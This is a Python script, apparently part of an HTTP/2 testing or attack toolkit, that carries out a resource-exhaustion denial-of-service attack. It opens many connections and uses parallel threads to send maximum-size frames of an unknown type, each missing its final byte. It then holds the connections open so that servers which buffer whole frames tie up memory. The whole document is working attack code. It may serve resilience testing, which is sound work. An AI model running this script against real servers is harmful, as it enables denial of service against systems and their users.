"""Frames of the largest size the server announced (SETTINGS_MAX_FRAME_SIZE), of an unknown type
that a server must accept and ignore (RFC 9113 section 4.1), sent but for their last byte and held.

A server that buffers a whole frame before looking at its type holds --connections frames of that
size; one that skips what it ignores holds nothing. The frames are written by --writers threads at
once, so a slow reader on the server side does not slow the attack down to one connection at a time.
"""
import concurrent.futures
import time

import attack
import h2frames as f

UNKNOWN_TYPE = 0x20


def main():
    p = attack.parser(__doc__, duration=3.0, connections=64, rate=500.0, rate_help="connections opened per second")
    p.add_argument("--writers", type=int, default=16, help="threads writing frames at once [16]")
    args = p.parse_args()
    report = attack.Report("max-size-frames", args)
    started = time.monotonic()
    connections = []
    for i in range(args.connections):
        if report.elapsed() >= args.duration:
            break
        connection = attack.connect(args.target, report, ack_settings=True)
        if connection is not None and connection.start():
            connections.append(connection)
        attack.pace(args.rate, started, i + 1)
    size = connections[0].max_frame_size() if connections and connections[0].wait_for_settings(timeout=2.0) else f.DEFAULT_MAX_FRAME_SIZE
    frame = f.frame_header(UNKNOWN_TYPE, 0, 0, size) + bytes(size - 1)

    def hold(connection):
        return connection.send(frame, timeout=max(0.1, args.duration - report.elapsed()))

    with concurrent.futures.ThreadPoolExecutor(args.writers) as writers:
        held = sum(writers.map(hold, connections))
    report.sent["frames held unfinished"] = held
    report.sent["frame bytes each"] = size - 1
    pool = attack.Pool()
    for connection in connections:
        if not connection.closed:
            pool.add(connection)
    while report.elapsed() < args.duration:
        pool.drain(wait=0.05)
    report.notes.append(f"{pool.open_count()} of {len(connections)} still open at the end")
    pool.close_all()
    report.finish()


if __name__ == "__main__":
    main()
